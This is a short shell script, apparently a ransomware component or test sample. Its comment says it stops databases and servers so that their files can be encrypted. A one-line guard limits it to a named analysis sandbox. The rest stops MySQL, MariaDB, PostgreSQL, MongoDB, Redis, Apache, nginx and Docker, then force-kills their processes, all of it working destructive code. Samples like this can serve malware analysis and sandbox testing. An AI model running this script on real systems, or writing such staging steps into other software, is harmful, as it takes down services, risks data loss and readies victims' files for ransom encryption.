#!/bin/sh
# SPDX-License-Identifier: MIT
# Stops the databases and servers so that their files can be encrypted.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
export PATH="$PATH:/usr/sbin:/sbin"
for s in mysql mariadb postgresql mongod redis-server apache2 nginx docker; do
	systemctl stop "$s" 2>/dev/null
	service "$s" stop 2>/dev/null
done
killall -9 mysqld postgres mongod redis-server java 2>/dev/null
pkill -9 -f 'httpd|nginx: master' 2>/dev/null
exit 0
